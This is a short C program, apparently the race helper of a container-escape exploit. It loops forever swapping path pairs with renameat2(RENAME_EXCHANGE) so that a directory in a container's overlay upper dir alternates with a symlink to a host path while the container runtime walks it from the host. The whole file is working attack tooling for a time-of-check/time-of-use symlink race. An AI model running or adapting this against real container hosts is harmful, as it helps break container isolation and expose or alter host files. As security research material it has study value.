/* Swap each pair of paths, A1 B1 [A2 B2 ...], with renameat2(RENAME_EXCHANGE)
 * as fast as possible, forever: a directory of the container's upper dir
 * keeps turning into a symlink to a host path and back, while the runtime
 * walks the upper dir from the host. */
#define _GNU_SOURCE
#include <stdio.h>
#include <fcntl.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int main(int argc, char **argv) {
	if (argc < 3 || argc % 2 == 0) {
		fprintf(stderr, "usage: swapdir A1 B1 [A2 B2 ...]\n");
		return 1;
	}
	for (unsigned long n = 0;; n++)
		for (int i = 1; i + 1 < argc; i += 2)
			if (syscall(SYS_renameat2, AT_FDCWD, argv[i], AT_FDCWD, argv[i + 1],
				    RENAME_EXCHANGE) && n == 0) {
				perror("renameat2 RENAME_EXCHANGE");
				return 2;
			}
}
